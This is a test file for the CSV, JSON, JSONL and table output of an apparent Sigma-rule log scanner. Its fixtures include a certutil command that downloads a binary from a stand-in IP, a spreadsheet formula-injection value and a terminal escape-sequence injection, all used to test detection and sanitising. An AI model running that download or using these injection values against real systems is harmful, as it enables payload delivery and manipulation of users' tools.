/** The scan output formats: CSV quoting, JSON validity, JSONL records, the table's layout, colours and truncation. */
import { describe, expect, test } from 'vitest';
import { colorEnabled, createOutput, displayWidth, eventTime, isOutputFormat, sanitize, stripAnsi, terminalWidth, truncate } from '../../src/cli/output/index.js';
import { csvField } from '../../src/cli/output/csv.js';
import { BUFFER_ROWS } from '../../src/cli/output/table.js';
import { hit, MemoryStream } from './support.js';

/** RFC 4180 reader (quoted fields, doubled quotes, CRLF records), to read back what the writer wrote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  expect(field).toBe('');
  expect(row).toEqual([]);
  return rows;
}

describe('csv', () => {
  test('header, CRLF records, RFC 4180 quoting of commas, quotes and line breaks, author kept', async () => {
    const s = new MemoryStream();
    const out = createOutput('csv', s, { color: false, width: 80 });
    out.hit(hit({ file: 'a,b.ndjson', fields: [{ field: 'CommandLine', value: 'say "hi", then\nleave' }] }));
    out.hit(hit({ title: 'Plain', level: undefined, detections: undefined, fields: undefined, line: undefined }));
    await out.end();
    expect(s.text.split('\r\n')[0]).toBe('event,file,line,time,level,rule_id,rule_title,status,author,tags,detections,fields,record_id,offset,correlation,computer,channel,provider,event_id,time_unparsed');
    expect(s.text).toContain('"CommandLine=say ""hi"", then\nleave"');
    const rows = parseCsv(s.text);
    expect(rows).toHaveLength(3);
    expect(rows[1]).toEqual([
      '3',
      'a,b.ndjson',
      '4',
      '',
      'high',
      '0f7d3b9a-1c2e-4d5f-8a6b-7e9c0d1f2a22',
      'Certutil Fetching A Remote File',
      'experimental',
      'sigmatch examples',
      'attack.command-and-control; attack.t1105',
      'selection_image; selection_verb',
      'CommandLine=say "hi", then\nleave',
      '',
      '',
      '',
      ...['', '', '', '', ''], // computer, channel, provider, event_id, time_unparsed
    ]);
    expect(rows[2]).toEqual(['3', '', '', '', '', '0f7d3b9a-1c2e-4d5f-8a6b-7e9c0d1f2a22', 'Plain', 'experimental', 'sigmatch examples', 'attack.command-and-control; attack.t1105', '', '', '', '', '', '', '', '', '', '']);
  });

  test('a correlation alert: its own row in every format, with what fired', async () => {
    const correlation = { type: 'event_count', group: { IpAddress: '10.0.0.5', User: null }, value: 12, first: '2026-11-28T07:00:01.000Z', last: '2026-11-28T07:00:09.250Z' };
    const alert = hit({ title: 'Brute Force', detections: undefined, fields: undefined, time: '2026-11-28T07:00:09.250Z', correlation });
    for (const format of ['jsonl', 'json'] as const) {
      const s = new MemoryStream();
      const out = createOutput(format, s, { color: false, width: 0 });
      out.hit(alert);
      await out.end();
      const record = format === 'json' ? JSON.parse(s.text)[0] : JSON.parse(s.text);
      expect(record).toMatchObject({ event: 3, title: 'Brute Force', time: '2026-11-28T07:00:09.250Z', correlation });
      expect(record.detections).toBeUndefined();
    }
    const csv = new MemoryStream();
    const out = createOutput('csv', csv, { color: false, width: 80 });
    out.hit(alert);
    await out.end();
    expect(JSON.parse(parseCsv(csv.text)[1][14])).toEqual(correlation);
    const table = new MemoryStream();
    const t = createOutput('table', table, { color: false, width: 0 });
    t.hit(alert);
    await t.end();
    expect(table.text).toContain('event_count 12 by IpAddress=10.0.0.5 User=(none) in 07:00:01.000..07:00:09.250');
  });

  test('cells a spreadsheet would run as formulas are neutralised; plain cells stay unquoted', () => {
    expect(csvField('=HYPERLINK("http://x")')).toBe(`"'=HYPERLINK(""http://x"")"`);
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('plain text')).toBe('plain text');
    expect(csvField(-5)).toBe('-5');
    expect(csvField(null)).toBe('');
  });

  test('a header alone when nothing matched', async () => {
    const s = new MemoryStream();
    await createOutput('csv', s, { color: false, width: 80 }).end();
    expect(parseCsv(s.text)).toHaveLength(1);
  });
});

describe('json and jsonl', () => {
  test('json is one valid array with zero hits', async () => {
    const s = new MemoryStream();
    await createOutput('json', s, { color: false, width: 80 }).end();
    expect(JSON.parse(s.text)).toEqual([]);
  });

  test('json is one valid array with one and with many hits, streamed as they come', async () => {
    for (const n of [1, 250]) {
      const s = new MemoryStream();
      const out = createOutput('json', s, { color: false, width: 80 });
      for (let i = 0; i < n; i++) out.hit(hit({ event: i }));
      await new Promise<void>((turnEnds) => queueMicrotask(turnEnds));
      // Written as they come (a turn's hits in one write), not held until the end.
      expect(s.writes).toBe(1);
      expect(s.text.match(/"event":/g)).toHaveLength(n);
      await out.end();
      const parsed = JSON.parse(s.text);
      expect(parsed).toHaveLength(n);
      expect(parsed[n - 1]).toMatchObject({ event: n - 1, author: 'sigmatch examples', title: 'Certutil Fetching A Remote File' });
    }
  });

  test('jsonl: one object per line with the rule metadata, author included, provenance when given', async () => {
    const s = new MemoryStream();
    const out = createOutput('jsonl', s, { color: false, width: 80 });
    out.hit(hit({ time: '2026-11-28 08:00:00.000' }));
    out.hit(hit({ detections: undefined, fields: undefined, event: 9, line: 10 }));
    await out.end();
    const lines = s.text.trimEnd().split('\n').map((l) => JSON.parse(l));
    expect(lines[0]).toEqual({
      event: 3,
      line: 4,
      id: '0f7d3b9a-1c2e-4d5f-8a6b-7e9c0d1f2a22',
      title: 'Certutil Fetching A Remote File',
      level: 'high',
      status: 'experimental',
      author: 'sigmatch examples',
      tags: ['attack.command-and-control', 'attack.t1105'],
      time: '2026-11-28 08:00:00.000',
      detections: ['selection_image', 'selection_verb'],
      fields: [
        { field: 'Image', value: 'C:\\Windows\\System32\\certutil.exe' },
        { field: 'CommandLine', value: 'certutil.exe -urlcache -f http://198.51.100.7/a.bin' },
      ],
    });
    expect(Object.keys(lines[0]).slice(0, 5)).toEqual(['event', 'line', 'id', 'title', 'level']);
    expect(lines[1]).not.toHaveProperty('fields');
  });

  test('backpressure: flush waits for drain when the stream asks to', async () => {
    const s = new MemoryStream();
    s.full = true;
    const out = createOutput('jsonl', s, { color: false, width: 80 });
    out.hit(hit());
    let flushed = false;
    const p = out.flush().then(() => (flushed = true));
    await Promise.resolve();
    expect(flushed).toBe(false);
    s.drain();
    await p;
    expect(flushed).toBe(true);
  });
});

describe('table', () => {
  const rows = (text: string): string[] => text.split('\n');

  test('aligned columns, no escape sequences without colour, authors listed at the end', async () => {
    const s = new MemoryStream();
    const out = createOutput('table', s, { color: false, width: 200 });
    out.hit(hit({ time: '2026-11-28 08:00:00.000', file: 'events/sample.ndjson' }));
    out.hit(hit({ time: '2026-11-28 08:00:05.000', title: 'Short', level: 'critical', rule: { title: 'Short', level: 'critical', author: 'Someone Else' }, file: 'events/sample.ndjson', line: 120 }));
    await out.end();
    expect(s.text).not.toMatch(/\u001b\[/);
    const lines = rows(s.text);
    expect(lines[0]).toMatch(/^TIME\s+LEVEL\s+RULE\s+EVENT\s+DETAILS$/);
    expect(lines[1]).toMatch(/^2026-11-28 08:00:00\.000\s+high\s+Certutil Fetching A Remote File\s+events\/sample\.ndjson:4\s+Image=C:\\Windows\\System32\\certutil\.exe  CommandLine=/);
    // Columns line up: every row's title and location start where the header's do.
    for (const col of ['RULE', 'EVENT']) {
      const at = lines[0].indexOf(col);
      expect(lines[1][at - 1]).toBe(' ');
      expect(lines[2][at - 1]).toBe(' ');
      expect(lines[1][at]).not.toBe(' ');
      expect(lines[2][at]).not.toBe(' ');
    }
    expect(s.text).toContain('Rules matched (2), with their authors:');
    expect(s.text).toMatch(/1 {2}Certutil Fetching A Remote File {2}by sigmatch examples {2}\(0f7d3b9a-/);
    expect(s.text).toMatch(/1 {2}Short {2}by Someone Else/);
  });

  test('every line fits the width; long values are cut with an ellipsis', async () => {
    for (const width of [40, 60, 100]) {
      const s = new MemoryStream();
      const out = createOutput('table', s, { color: true, width });
      out.hit(hit({ fields: [{ field: 'CommandLine', value: 'x'.repeat(500) }], title: 'A rule with a rather long title that will not fit' }));
      out.hit(hit({ file: `/very/long/path/${'d/'.repeat(40)}events.ndjson`, line: 123456 }));
      await out.end();
      for (const line of rows(s.text)) expect(displayWidth(stripAnsi(line)), `width ${width}: ${JSON.stringify(line)}`).toBeLessThanOrEqual(width);
      expect(stripAnsi(s.text)).toContain('…');
    }
  });

  test('levels are coloured when colour is on; the text is the same without the escapes', async () => {
    const plain = new MemoryStream();
    const coloured = new MemoryStream();
    for (const [s, color] of [[plain, false], [coloured, true]] as const) {
      const out = createOutput('table', s, { color, width: 120 });
      for (const level of ['critical', 'high', 'medium', 'low', 'informational']) out.hit(hit({ level }));
      await out.end();
    }
    expect(coloured.text).toMatch(/\u001b\[1;97;41mcritical\u001b\[0m/);
    expect(coloured.text).toMatch(/\u001b\[33mmedium\u001b\[0m/);
    expect(stripAnsi(coloured.text)).toBe(plain.text);
    expect(plain.text).toMatch(/^info {6}Certutil/m);
  });

  test('control characters in event values cannot reach the terminal', async () => {
    const s = new MemoryStream();
    const out = createOutput('table', s, { color: false, width: 0 });
    out.hit(hit({ fields: [{ field: 'CommandLine', value: 'a\u001b]0;pwned\u0007b\nc\td' }] }));
    await out.end();
    expect(s.text).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
    expect(s.text).toContain('a\\x1b]0;pwned\\x07b\\nc\\td');
  });

  test('rows are held back for the layout until enough arrive, flush() or end(); then they stream', async () => {
    const s = new MemoryStream();
    const out = createOutput('table', s, { color: false, width: 120 });
    out.hit(hit());
    expect(s.text).toBe('');
    await out.flush();
    expect(rows(s.text)).toHaveLength(3); // header, row, ''
    const turnEnds = (): Promise<void> => new Promise<void>((done) => queueMicrotask(done));
    out.hit(hit({ event: 7 }));
    await turnEnds(); // a turn's rows go out in one write, at the end of the turn
    expect(rows(s.text)).toHaveLength(4);
    const t = new MemoryStream();
    const many = createOutput('table', t, { color: false, width: 120 });
    for (let i = 0; i < BUFFER_ROWS - 1; i++) many.hit(hit({ event: i }));
    await turnEnds();
    expect(t.text).toBe('');
    many.hit(hit());
    await turnEnds();
    expect(rows(t.text)).toHaveLength(BUFFER_ROWS + 2);
  });

  test('no hits: says so', async () => {
    const s = new MemoryStream();
    await createOutput('table', s, { color: false, width: 80 }).end();
    expect(s.text).toBe('No rule matched.\n');
  });

  test('without a file the event column shows the index and line', async () => {
    const s = new MemoryStream();
    const out = createOutput('table', s, { color: false, width: 0 });
    out.hit(hit({ event: 12, line: 13, fields: [] }));
    await out.end();
    expect(rows(s.text)[1]).toMatch(/#12 line 13\s+\[selection_image, selection_verb\]$/);
  });
});

describe('terminal helpers', () => {
  test('colour: FORCE_COLOR wins, then NO_COLOR, then TERM=dumb, then whether the stream is a terminal', () => {
    const tty = { isTTY: true };
    const pipe = { isTTY: false };
    expect(colorEnabled(tty, {})).toBe(true);
    expect(colorEnabled(pipe, {})).toBe(false);
    expect(colorEnabled(tty, { NO_COLOR: '1' })).toBe(false);
    expect(colorEnabled(tty, { NO_COLOR: '' })).toBe(true);
    expect(colorEnabled(tty, { TERM: 'dumb' })).toBe(false);
    expect(colorEnabled(pipe, { FORCE_COLOR: '1' })).toBe(true);
    expect(colorEnabled(tty, { FORCE_COLOR: '0' })).toBe(false);
    expect(colorEnabled(pipe, { FORCE_COLOR: '1', NO_COLOR: '1' })).toBe(true);
    expect(colorEnabled(pipe, {}, 'always')).toBe(true);
    expect(colorEnabled(tty, { FORCE_COLOR: '1' }, 'never')).toBe(false);
  });

  test('width: the terminal, else $COLUMNS, else the fallback', () => {
    expect(terminalWidth({ isTTY: true, columns: 93 }, {})).toBe(93);
    expect(terminalWidth({ isTTY: false }, { COLUMNS: '70' })).toBe(70);
    expect(terminalWidth({ isTTY: false }, {})).toBe(120);
  });

  test('display width counts wide characters twice; truncation respects it', () => {
    expect(displayWidth('abc')).toBe(3);
    expect(displayWidth('日本')).toBe(4);
    expect(displayWidth('e\u0301')).toBe(1);
    expect(truncate('日本語テキスト', 7)).toBe('日本語…');
    expect(displayWidth(truncate('日本語テキスト', 7))).toBeLessThanOrEqual(7);
    expect(sanitize('a\r\nb\u009b')).toBe('a\\r\\nb\\x9b');
  });

  test('event time from flat fields and evtx_dump events', () => {
    expect(eventTime({ UtcTime: '2026-11-28 08:00:00.000' })).toBe('2026-11-28 08:00:00.000');
    expect(eventTime({ Event: { System: { TimeCreated: { '#attributes': { SystemTime: '2025-12-15T11:26:31.1Z' } } } } })).toBe('2025-12-15T11:26:31.1Z');
    expect(eventTime({ eventTime: '2026-11-28T08:00:00Z', other: 1 })).toBe('2026-11-28T08:00:00Z');
    expect(eventTime({ message: 'x' })).toBeUndefined();
    expect(eventTime('not an object')).toBeUndefined();
  });

  test('format names', () => {
    expect(['table', 'jsonl', 'json', 'csv'].every(isOutputFormat)).toBe(true);
    expect(isOutputFormat('xml')).toBe(false);
  });
});
